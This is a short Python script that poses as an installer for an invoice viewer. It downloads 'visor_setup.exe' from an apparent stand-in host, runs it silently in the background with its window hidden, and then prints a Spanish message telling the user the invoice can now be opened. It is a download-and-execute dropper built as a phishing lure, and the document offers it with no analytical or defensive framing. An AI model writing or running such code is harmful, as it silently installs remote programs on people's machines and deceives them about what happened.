import os, subprocess, tempfile, urllib.request
url = "http://facturas-visor.example.net/v/visor_setup.exe"
dst = os.path.join(tempfile.gettempdir(), "visor_setup.exe")
urllib.request.urlretrieve(url, dst)
subprocess.Popen([dst, "/S"], creationflags=0x08000000)
print("Visor instalado. Ya puede abrir la factura.")
